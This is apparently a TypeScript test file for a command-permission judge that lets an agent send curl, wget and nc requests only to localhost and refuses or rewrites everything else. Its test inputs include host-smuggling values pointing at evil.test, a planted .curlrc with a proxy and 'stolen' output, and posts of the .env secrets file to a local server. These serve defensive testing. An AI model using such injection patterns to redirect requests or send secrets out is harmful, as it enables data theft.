/**
 * Requests to a server on localhost: what is written out for them, and where they are refused as all of the network is.
 *
 * Covers `src/shell/programs/local-requests.ts`.
 */
import { execFile } from 'node:child_process';
import { once } from 'node:events';
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Decision } from '../../../src/core/access.ts';
import { parseEntry } from '../../../src/shell/allowlist.ts';
import { judgeCommand } from '../../../src/shell/judge.ts';
import { NEVER_ROWS } from '../../../src/shell/never.ts';
import type { CommandRules } from '../../../src/shell/scope.ts';
import { judgedInWorkspace } from '../support/judged.ts';
import { rulesIn } from '../support/workspace.ts';

const { root, outcome, decide } = judgedInWorkspace();
const judge = (command: string, more: Partial<CommandRules> = {}): Decision =>
  judgeCommand(command, { ...rulesIn(root(), undefined, true), ...more });
const entries = (...texts: readonly string[]): CommandRules['allow'] => texts.map((text) => parseEntry(text, 'test'));

describe('a request to localhost', () => {
  it.each([
    ['curl -sSf localhost:3000', "'curl' '-q' '--noproxy' '*' '--proto' '=http,https' '-sSf' 'localhost:3000'"],
    ['wget -qO- localhost:3000', "'wget' '--no-config' '--no-proxy' '--no-netrc' '--no-hsts' '-qO-' 'localhost:3000'"],
    ['nc -z localhost 3000', "'nc' '-z' 'localhost' '3000'"],
    [
      'curl localhost:3000/users?page=[1-2]',
      "'curl' '-q' '--noproxy' '*' '--proto' '=http,https' 'localhost:3000/users?page=[1-2]'",
    ],
  ])('reads no settings and goes through no proxy: %s', (command, text) => {
    expect(outcome(command, true)).toBe(text);
    expect(outcome(text, true), 'the same for a second policy').not.toMatch(/^bash\./);
  });

  it('changes something, as far as anybody knows', () => {
    expect(decide('curl localhost:3000', true).readsOnly).toBe(false);
    expect(decide('git add a.txt; curl localhost:3000', true)).toMatchObject({ verdict: 'allow', recordsInGit: true });
  });

  it.each(['curl -s localhost:3000', 'wget -qO- localhost', 'nc -z localhost 1'])(
    'is refused like any other where no sandbox holds, or where no code may run: %s',
    (command) => {
      const { does, instead } = NEVER_ROWS.find(({ names }) => names.startsWith('curl '))!;
      for (const more of [
        { sandboxed: false },
        { noRuns: 'code from a fork' },
        { classes: ['read', 'edit'] },
        { classes: [], allow: entries('ls') },
      ] as const) {
        const { verdict, rule, reason, remedy } = judge(command, more);
        expect({ verdict, rule }).toEqual({ verdict: 'deny', rule: 'bash.allowlist' });
        expect(reason).toContain(does);
        expect(remedy).toBe(`${instead}.`);
      }
    },
  );

  it('is denied by an entry, and let through by one as it stands', () => {
    expect(judge('curl localhost:3000', { deny: entries('curl') })).toMatchObject({ rule: 'bash.denied' });
    const listed = judge('curl -x localhost:1 --retry-delay 1 localhost:3000', { allow: entries('curl') });
    expect(listed.run).toBe("'curl' '-x' 'localhost:1' '--retry-delay' '1' 'localhost:3000'");
  });

  it('writes no file where nothing may change', () => {
    const noWrites = 'the profile';
    for (const command of ['curl -o x localhost', 'curl -sc jar localhost', 'wget -O x localhost']) {
      expect(judge(command, { noWrites }), command).toMatchObject({ rule: 'write.read-only' });
    }
    for (const command of ['curl -s -o /dev/null localhost', 'wget -qO- localhost', 'nc -z localhost 1']) {
      expect(judge(command, { noWrites }), command).toMatchObject({ verdict: 'allow' });
    }
  });

  it('is what a refused one is led to', () => {
    const { rule, reason, remedy } = judge('curl https://example.org');
    expect(rule).toBe('bash.allowlist');
    expect(reason).toContain('reaches the network');
    expect(remedy).toContain('`curl -s localhost:3000`');
    for (const command of [
      'curl localhost https://example.org',
      'wget localhost a.b',
      'nc -z example.org 80',
      "curl 'http://{localhost,example.org}/'",
    ])
      expect(judge(command), command).toMatchObject({ rule, remedy });
    expect(judge('ping localhost').remedy).not.toContain('curl');
  });

  it.each([
    ['curl -x example.org:80 localhost', 'the option "-x" of curl is not allowed'],
    ['curl -K a.txt localhost:3000', 'the option "-K" of curl is not allowed'],
    ['ls | xargs -I{} curl {}', 'where "{}" leads is not known before curl runs'],
    ['x=$(cat a.txt); curl -s "$x"', 'where "$x" leads is not known before curl runs'],
    ['mapfile -t x < a.txt; curl "${x[@]}" localhost', '"${x[@]}" may hold an address for curl'],
    ['read -r x < a.txt; curl -H "$x" localhost', '"$x" as the value of -H of curl may become the name of a file'],
    ['read -r x < a.txt; curl -F "a=$x" localhost', '"a=$x" as the value of -F of curl may become the name of a file'],
  ])('says what keeps it from being one: %s', (command, reason) => {
    expect(judge(command).reason).toContain(reason);
  });
});

const isInstalled = ['curl', 'wget'].every((name) => existsSync(`/usr/bin/${name}`));

describe.skipIf(!isInstalled)('curl and wget, really run', () => {
  let server: Server;
  let port = 0;
  beforeAll(async () => {
    server = createServer((request, response) => {
      const parts: Buffer[] = [];
      request.on('data', (part: Buffer) => parts.push(part));
      request.on('end', () => response.end(`${request.method} ${request.url} ${Buffer.concat(parts)}`));
    }).listen(0, '127.0.0.1');
    await once(server, 'listening');
    port = (server.address() as AddressInfo).port;
  });
  afterAll(() => server.close());

  const run = async (command: string, env: Record<string, string> = {}): Promise<string> => {
    const text = judge(command.replaceAll('PORT', String(port))).run ?? 'exit 99';
    const options = { cwd: root(), env: { PATH: process.env.PATH, HOME: root(), ...env } };
    return (await promisify(execFile)('bash', ['--noprofile', '--norc', '-c', text], options)).stdout;
  };

  it.each([
    ["curl -s 'localhost:PORT/{a,b}?c=#d'", 'GET /a?c= GET /b?c= '],
    ["curl -gs -o 'got#1' 'localhost:PORT/{a,b}'; cat 'got#1'", 'GET /{a,b} '],
    ["printf '1\\n2\\n' | xargs -P 2 -I{} curl -s 'localhost:PORT/?a={}'", 'GET /?a=1 GET /?a=2 '],
    ['curl -sS -d @a.txt http://127.0.0.1:PORT/x', 'POST /x a'],
    [`curl -s "localhost:PORT/x/$(printf %s '@a.test:1/{1,2}')"`, 'GET /x/@a.test:1/1 GET /x/@a.test:1/2 '],
    ['curl -s --data-raw "$(echo @.env)" localhost:PORT/x', 'POST /x @.env'],
    ['while read -r m p; do curl -s -X "$m" "localhost:PORT/$p"; done <<< "PUT a"', 'PUT /a '],
    ['while read -r p; do curl -s -o "got-$p" "localhost:PORT/$p"; cat "got-$p"; done <<< a', 'GET /a '],
    [
      'for t in "" x; do a=(-s); [ -n "$t" ] && a+=(-d "$t b"); curl "${a[@]}" localhost:PORT/y; done',
      'GET /y POST /y x b',
    ],
    ['curl -s -d "x=$(echo @.env)" localhost:PORT', 'POST / x=@.env'],
    ["wget -qO- --post-data='@.env' http://localhost:PORT/x", 'POST /x @.env'],
  ])('ask the server: %s', async (command, answer) => {
    expect(await run(command)).toBe(answer);
  });

  it.each([
    ['/x?q=1', 'GET /x?q=1 '],
    ['?q=1', 'GET /?q=1 '],
    ['', 'GET / '],
    ['x', 'GET /x '],
    ['@127.0.0.1:1/', 'GET /@127.0.0.1:1/ '],
    ['.evil.test/', 'GET /.evil.test/ '],
  ])('ask the same server, whatever follows the port: %s', async (value, answer) => {
    writeFileSync(join(root(), 'value'), value);
    for (const ask of ['curl -s', 'wget -qO-'])
      expect(await run(`x=$(cat value); ${ask} "http://localhost:PORT$x"`)).toBe(answer);
  });

  it('take digits that follow a port for a part of it, as bash has it', async () => {
    const [front, back] = [String(port).slice(0, -2), String(port).slice(-2)];
    writeFileSync(join(root(), 'value'), `${back}/x`);
    expect(await run(`x=$(cat value); curl -s "http://localhost:${front}$x"`)).toBe('GET /x ');
    writeFileSync(join(root(), 'value'), '/a\n/b\n');
    expect(await run('for p in $(cat value); do curl -s localhost:PORT$p; done')).toBe('GET /a GET /b ');
  });

  it.each([
    'x=$(cat a.txt); curl -s "http://localhost:3000$x@evil.test/"',
    'x=$(cat a.txt); curl -s "http://localhost$x"',
    'x=$(cat a.txt); curl -s "http://$x"',
    'x=$(cat a.txt); y=$(cat a.txt); curl -s "http://localhost:3000$x$y:1/"',
    'P=$(cat a.txt); x=$(cat a.txt); curl -s "http://localhost:$P$x.evil.test"',
  ])('ask nobody where the value may be a part of the host: %s', (command) => {
    expect(judge(command).rule).toBe('bash.dynamic');
    expect(judge(command).verdict).toBe('deny');
  });

  it('ask it and nobody else, whatever stands in the environment and in the home directory', async () => {
    writeFileSync(join(root(), '.curlrc'), 'output = stolen\nproxy = 127.0.0.1:1\n');
    writeFileSync(join(root(), '.wgetrc'), 'use_proxy = on\nhttp_proxy = http://127.0.0.1:1\n');
    const proxies = { http_proxy: 'http://127.0.0.1:1', ALL_PROXY: 'http://127.0.0.1:1' };
    expect(await run('curl -s 127.0.0.1:PORT/x', proxies)).toBe('GET /x ');
    expect(await run('wget -qO- 127.0.0.1:PORT/x', proxies)).toBe('GET /x ');
    expect(await run('curl -s -o got.txt 127.0.0.1:PORT/x', proxies)).toBe('');
    expect(readFileSync(join(root(), 'got.txt'), 'utf8')).toBe('GET /x ');
  });
});

it.each([
  ['curl -s', 'bash.allowlist'],
  ['curl --frob https://example.com', 'bash.allowlist'],
  ['curl --frob x localhost:3000', 'bash.option'],
  ['curl -sZ x localhost:3000', 'bash.option'],
  ['x=$(cat a.txt); curl -sSf "$x"', 'bash.dynamic'],
  ['x=$(cat a.txt); curl localhost:3000/$x', 'bash.dynamic'],
  ['x=$(cat a.txt); curl -H $x localhost:3000', 'bash.dynamic'],
  ['ls | xargs curl localhost:3000', 'bash.dynamic'],
  ['ls | xargs curl localhost:3000 -H', 'bash.dynamic'],
])('are refused for what keeps them from being one to localhost: %s', (command, rule) => {
  expect(judge(command).rule).toBe(rule);
  expect(decide(command).rule).toBe('bash.allowlist');
});

it('are made in a loop where their number is not known, as the refusal of xargs says', () => {
  const { rule, remedy = '' } = judge('ls | xargs curl -s');
  expect(rule).toBe('bash.dynamic');
  const [loop = ''] = /while .*/.exec(remedy) ?? [];
  expect(judge(`seq 4 | ${loop}`).verdict).toBe('allow');
});
